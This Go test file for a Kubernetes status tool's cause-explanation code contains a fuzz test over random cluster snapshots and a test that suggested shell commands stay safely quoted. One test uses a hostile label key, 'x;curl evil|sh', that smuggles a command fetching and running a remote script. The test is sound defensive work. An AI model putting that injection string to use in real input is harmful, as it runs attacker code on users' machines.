package explain

import (
	"encoding/binary"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/kstatus-tui/kstatus-tui/internal/explain/codes"
	"github.com/kstatus-tui/kstatus-tui/internal/explain/inspect"
	"github.com/kstatus-tui/kstatus-tui/internal/object"
)

// Any snapshot whatever gives causes within bounds, and no panic: objects whose
// fields contradict each other, trees with cycles, texts of any length.
func FuzzExplain(f *testing.F) {
	files, _ := filepath.Glob(filepath.Join("testdata", "cases", "*.txt"))
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			f.Fatal(err)
		}
		for c := range strings.SplitSeq(string(data), "\n== ") {
			f.Add([]byte(c))
		}
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		w := fuzzWorld(data)
		s := w.snapshot()
		var roots []object.ID
		for i, o := range w.order {
			if i%3 == 0 {
				roots = append(roots, o.ID)
			}
		}
		roots = append(roots, object.ID{Kind: "Pod", Name: "nowhere"})
		causes := Explain(s, roots).Causes
		checkBounds(t, causes)
		again := Explain(s, roots).Causes
		if !slices.EqualFunc(causes, again, func(a, b Cause) bool { return a.ID == b.ID && a.Title == b.Title && a.Count == b.Count }) {
			t.Error("equal snapshots give different causes")
		}
	})
}

// checkBounds is what every cause keeps, whatever the cluster says.
func checkBounds(t *testing.T, causes []Cause) {
	t.Helper()
	for _, c := range causes {
		if codes.Named(c.Code) == nil {
			t.Errorf("unknown code %q", c.Code)
		}
		if len(c.Title) > 240 || len(c.Detail) > 4096 ||
			len(c.Objects) > inspect.MaxObjects || len(c.Blocks) > inspect.MaxObjects ||
			len(c.Symptoms) > inspect.MaxObjects || len(c.Evidence) > 12 || len(c.Chain) > 16 {
			t.Errorf("%s is out of bounds: %d %d %d", c.Code, len(c.Title), len(c.Detail), len(c.Objects))
		}
		if strings.ContainsRune(c.Title, '\n') || !utf8.ValidString(c.Title) {
			t.Errorf("title %q", c.Title)
		}
		for _, e := range c.Evidence {
			if len(e.Value) > inspect.MostOfValue {
				t.Errorf("evidence of %d bytes", len(e.Value))
			}
		}
		for _, n := range c.Next {
			if !pasteable.MatchString(n) {
				t.Errorf("%s: a shell would read more than words in %q", c.Code, n)
			}
		}
		if c.ID == "" || c.Count < 1 {
			t.Errorf("%s has no identity or shows nowhere", c.Code)
		}
	}
}

// pasteable is a command that a shell takes as plain and quoted words.
var pasteable = regexp.MustCompile(`\A(?:[-A-Za-z0-9_./:=,@%+ ]|'[^']*'|\\')+\z`)

// A label's key is the cluster's word, and the command that quotes it is copied
// into a shell.
func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
	const evil = "x;curl evil|sh 'y'"
	w := newWorld(time.Date(2026, 1, 1, 1, 0, 0, 0, time.UTC))
	pod := &object.Object{
		ID: object.ID{Kind: "Pod", Namespace: "a", Name: "web"}, UID: "p", Created: w.now.Add(-time.Hour),
		Pod: &object.Pod{PodTemplate: &object.PodTemplate{}, Phase: "Pending", Placement: &object.Placement{NodeSelector: []object.Label{{Key: evil, Value: "a"}}}},
		Conditions: []object.Condition{{
			Statement:          &object.Statement{Type: "PodScheduled", Status: "False", Reason: "Unschedulable", Message: "0/1 nodes are available: 1 node(s) didn't match Pod's node affinity/selector."},
			LastTransitionTime: w.now.Add(-time.Hour),
		}},
	}
	w.put(pod)
	w.link()
	found := false
	for _, c := range Explain(w.snapshot(), []object.ID{pod.ID}).Causes {
		for _, n := range c.Next {
			found = found || strings.Contains(n, "-L")
			if !pasteable.MatchString(n) {
				t.Errorf("%s: %q", c.Code, n)
			}
		}
	}
	if !found {
		t.Error("no command names the label: this tests nothing")
	}
}

// fuzzWorld builds a world out of bytes: the choice of kinds and links comes
// from them, and so do the words.
func fuzzWorld(data []byte) *world {
	w := newWorld(time.Date(2026, 1, 1, 1, 0, 0, 0, time.UTC))
	at := 0
	next := func() byte {
		if at >= len(data) {
			at++
			return byte(at * 31)
		}
		at++
		return data[at-1]
	}
	num := func() int64 {
		b := [8]byte{next(), next(), 0, 0, 0, 0, next() & 1, next() & 0x81}
		return int64(binary.LittleEndian.Uint64(b[:]))
	}
	when := func() time.Time {
		switch n := next(); {
		case n < 60:
			return time.Time{}
		default:
			return w.now.Add(time.Duration(int(n)-200) * 7 * time.Second)
		}
	}
	lines := strings.FieldsFunc(object.Clean(string(data)),
		func(r rune) bool { return r == '⏎' || r == '\'' || r == '{' || r == ':' })
	words := []string{
		"", "True", "False", "Unknown", "not found", "CrashLoopBackOff", "ErrImagePull", "ImagePullBackOff", "CreateContainerConfigError", "OOMKilled", "Ready", "PodScheduled",
		"0/3 nodes are available: 1 node(s) had untolerated taint(s), 2 Insufficient cpu.", `persistentvolumeclaim "x" not found`, "exceeded quota: q, requested: pods=1, used: pods=2, limited: pods=2",
		`failed calling webhook "w": Post "https://a.b.svc:443/"`, "back-off 40s restarting", "a", "web", "n1", "100%", "-1",
	}
	words = append(words, lines...)
	word := func() string { return words[int(next())%len(words)] }
	cond := func() []object.Condition {
		types := []string{"Ready", "ContainersReady", "PodScheduled", "Progressing", "Available", "ReplicaFailure", "Failed", "Stalled", "Synced", "DisruptionTarget", "NamespaceContentRemaining", "ScalingActive", "Succeeded", word()}
		var out []object.Condition
		for range int(next()) % 5 {
			out = append(out, object.Condition{Statement: &object.Statement{Type: types[int(next())%len(types)], Status: word(), Reason: word(), Message: word()}, LastTransitionTime: when()})
		}
		return out
	}
	kinds := []object.ID{
		{Kind: "Pod"},
		{Group: "apps", Kind: "Deployment"},
		{Group: "apps", Kind: "ReplicaSet"},
		{Group: "apps", Kind: "StatefulSet"},
		{Group: "apps", Kind: "DaemonSet"},
		{Group: "batch", Kind: "Job"},
		{Group: "batch", Kind: "CronJob"},
		{Kind: "Service"},
		{Group: "discovery.k8s.io", Kind: "EndpointSlice"},
		{Kind: "PersistentVolumeClaim"},
		{Kind: "Node"},
		{Kind: "Namespace"},
		{Group: "networking.k8s.io", Kind: "Ingress"},
		{Group: "lab.io", Kind: "Widget"},
		{Group: "kustomize.toolkit.fluxcd.io", Kind: "Kustomization"},
		{Group: "autoscaling", Kind: "HorizontalPodAutoscaler"},
		{Group: "argoproj.io", Kind: "Application"},
		{Group: "gateway.networking.k8s.io", Kind: "HTTPRoute"},
		{Group: "cert-manager.io", Kind: "Certificate"},
		{Group: "apiregistration.k8s.io", Kind: "APIService"},
		{Group: "apiextensions.k8s.io", Kind: "CustomResourceDefinition"},
	}
	for range 3 + int(next())%12 {
		id := kinds[int(next())%len(kinds)]
		id.Namespace, id.Name = "a", []string{"a", "web", "web-0", "web-1", "n1", "x"}[next()%6]
		o := &object.Object{ID: id, UID: id.Kind + id.Name, Created: when(), Changed: when(), Generation: object.IntOf(num()), Observed: object.IntOf(num()), Conditions: cond()}
		if next() < 40 {
			o.Deleted = when()
			o.Finalizers = []string{word()}
		}
		o.Labels = []object.Label{{Key: "app", Value: word()}, {Key: "controller-revision-hash", Value: word()}}
		if len(w.order) > 0 && next() < 200 {
			p := w.order[int(next())%len(w.order)]
			o.Owners = []object.Owner{{Group: p.Group, Kind: p.Kind, Name: p.Name, UID: p.UID, Controller: true}}
		}
		state := func() object.ContainerState {
			return object.ContainerState{Kind: []string{"", "waiting", "running", "terminated"}[next()%4], Reason: word(), Message: word(), ExitCode: int32(num()), Started: when(), Finished: when()}
		}
		n := func() object.Int { return object.Int{V: num(), Set: next() < 200} }
		switch o.Kind {
		case "Pod":
			o.Pod = &object.Pod{Phase: []string{"", "Pending", "Running", "Failed", "Succeeded"}[next()%5], Reason: word(), Message: word(), Node: []string{"", "n1", "x"}[next()%3], PodTemplate: &object.PodTemplate{RestartPolicy: "Always", EvictAfter: n()}}
			for range int(next()) % 4 {
				o.Pod.Containers = append(o.Pod.Containers, object.Container{
					ContainerSpec: &object.ContainerSpec{
						Name: word(), Image: word(), Kind: object.ContainerKind(next() % 4),
						Probes: object.Probes{Readiness: &object.Probe{InitialDelay: int32(num()), Period: int32(num()), Threshold: int32(num())}},
					},
					Ready: next()%2 == 0, Restarts: num(), State: state(), Prior: new(state()),
				})
			}
			if o.Pod.Node == "" && next()%2 == 0 {
				o.Pod.Placement = &object.Placement{NodeSelector: []object.Label{{Key: word(), Value: word()}}, HasTerms: next()%2 == 0, Terms: []object.NodeTerm{{Exprs: []object.Requirement{{Key: word(), Operator: "Gt", Values: []string{word()}}}}}}
			}
			o.Pod.Requests = []object.Amount{{Name: "cpu", Milli: num()}}
			o.Pod.Uses = []object.Use{{Kind: "PersistentVolumeClaim", Name: "x"}, {Kind: "Secret", Name: word()}}
		case "Deployment", "ReplicaSet", "StatefulSet", "DaemonSet":
			o.Workload = &object.Workload{
				Replicas: n(), StatusReplicas: n(), Updated: n(), Ready: n(), Available: n(), Desired: n(),
				Current: n(), Paused: next() < 20, Strategy: word(), MaxUnavailable: word(), MaxSurge: word(),
				Partition: n(), MinReadySeconds: n(), ProgressDeadline: n(), CurrentRevision: word(), UpdateRevision: word(),
				Revision: word(), ServiceName: word(), Images: []object.Image{{Container: word(), Image: word()}},
			}
		case "Job":
			o.Job = &object.Job{Parallelism: n(), BackoffLimit: n(), ActiveDeadline: n(), Failed: n(), Active: n(), Suspend: next() < 30}
		case "CronJob":
			o.CronJob = &object.CronJob{Suspend: next() < 30, LastSchedule: when()}
		case "Service":
			o.Service = &object.Service{Type: word(), Selector: object.Selector{Match: []object.Label{{Key: "app", Value: word()}}}, Ports: []object.Port{{Name: word(), Target: word()}}}
		case "EndpointSlice":
			o.Endpoints = &object.Endpoints{Service: "web", Endpoints: []object.Endpoint{{Target: object.ID{Kind: "Pod", Namespace: "a", Name: "web"}, TargetUID: "Podweb", Ready: next()%2 == 0}}}
		case "PersistentVolumeClaim":
			o.Claim = &object.Claim{Phase: word(), StorageClass: word(), Resize: word()}
		default:
			list := []any{map[string]any{"type": word(), "status": word(), "message": word()}, word(), nil, map[string]any{"conditions": []any{map[string]any{"type": "Accepted", "status": "False"}}, "name": word(), "backend": word(), "http": map[string]any{"paths": []any{nil, map[string]any{"backend": map[string]any{"service": map[string]any{"name": "web", "port": map[string]any{"number": num()}}}}}}}}
			o.Tree = map[string]any{
				"spec":   map[string]any{"rules": list, "parentRefs": list, "sourceRef": map[string]any{"kind": word(), "name": word()}, "taints": list, "unschedulable": next()%2 == 0, "suspend": next() < 20, "ingressClassName": word(), "secretName": word()},
				"status": map[string]any{"parents": list, "listeners": list, "resources": list, "health": map[string]any{"status": word()}, "allocatable": map[string]any{"cpu": word(), "pods": num()}, "conditions": list, "expectedPods": num(), "lastFailureTime": word()},
			}
		}
		w.put(o)
		for range int(next()) % 3 {
			reasons := []string{"FailedCreate", "FailedMount", "FailedScheduling", "ProvisioningFailed", "ExternalProvisioning", "FailedBinding", "Failed", "Unhealthy", "Killing", "Pulling", "FailedCreatePodSandBox", "FailedAttachVolume", word()}
			w.events[o.ID] = append(w.events[o.ID],
				object.Event{About: o.ID, Reason: reasons[int(next())%len(reasons)], Message: word(), First: when(), Last: when()})
		}
	}
	w.absent[object.ID{Kind: "Secret", Namespace: "a", Name: word()}] = true
	w.complete[object.ID{Kind: "Node"}] = next()%2 == 0
	w.link()
	// The tree of a hostile cluster may well be a ring.
	if next() < 60 && len(w.order) > 2 {
		a, b := w.order[0], w.order[len(w.order)-1]
		w.parents[a.ID] = append(w.parents[a.ID], b.ID)
		w.parents[b.ID] = append(w.parents[b.ID], a.ID)
		w.children[b.ID] = append(w.children[b.ID], a)
		w.children[a.ID] = append(w.children[a.ID], b)
	}
	return w
}
